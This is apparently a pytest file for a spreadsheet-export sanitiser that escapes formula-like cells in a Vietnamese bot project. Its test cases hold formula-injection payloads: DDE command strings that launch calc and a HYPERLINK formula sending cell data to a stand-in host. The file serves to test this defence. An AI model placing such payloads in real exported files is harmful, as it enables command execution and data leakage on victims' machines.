"""Export cells: formula-like text is marked as text, everything else is left as written."""

from __future__ import annotations

import decimal

import pytest

from bot.core.spreadsheet import FORMULA_PREFIXES, safe_cell, safe_row

CASES = [
    # (cell, what the export writes)
    ("=1+1", "'=1+1"),
    ('=HYPERLINK("http://x.example/?"&A1,"Bấm")', '\'=HYPERLINK("http://x.example/?"&A1,"Bấm")'),
    ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
    ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("\n=1+1", "'\n=1+1"),
    ("\0=1+1", "'\0=1+1"),
    ("＝1+1", "'＝1+1"),  # full-width equals
    ("＋1+1", "'＋1+1"),  # full-width plus
    ("－1+1", "'－1+1"),  # full-width minus
    ("＠SUM(A1)", "'＠SUM(A1)"),  # full-width at
    ("-", "'-"),
    ("+84 91* *** 678", "'+84 91* *** 678"),
    ("=1***@mail.vn", "'=1***@mail.vn"),
    # plain signed numbers cannot be formulas: kept readable
    ("+84912345678", "+84912345678"),
    ("-12", "-12"),
    ("-1.5", "-1.5"),
    ("-3,5", "-3,5"),
    # ordinary text, including formula characters later in the cell
    ("Cán bộ hẹn trả chậm = 3 ngày", "Cán bộ hẹn trả chậm = 3 ngày"),
    (" =1+1", " =1+1"),
    ("0912345678", "0912345678"),
    ("*******678", "*******678"),
    ("2025-03-20T10:00:00+07:00", "2025-03-20T10:00:00+07:00"),
    ("PAKN-20250320-0001", "PAKN-20250320-0001"),
    ("'=đã có dấu nháy", "'=đã có dấu nháy"),
    ("", ""),
    (None, ""),
    # numbers stay numbers, negative ones too
    (-5, -5),
    (-1.25, -1.25),
    (decimal.Decimal("-3.50"), decimal.Decimal("-3.50")),
    (0, 0),
]


@pytest.mark.parametrize("cell, written", CASES, ids=[repr(c) for c, _ in CASES])
def test_safe_cell(cell, written):
    assert safe_cell(cell) == written
    assert type(safe_cell(cell)) is type(written)


@pytest.mark.parametrize("prefix", sorted(FORMULA_PREFIXES))
def test_every_formula_prefix_followed_by_a_formula_is_marked(prefix):
    assert safe_cell(prefix + "SUM(A1:A2)") == "'" + prefix + "SUM(A1:A2)"


def test_safe_row_keeps_order_and_is_idempotent_on_safe_cells():
    row = ["PAKN-20250320-0001", "=1+1", None, -3]
    assert safe_row(row) == ["PAKN-20250320-0001", "'=1+1", "", -3]
    assert safe_row(safe_row(row)) == safe_row(row)
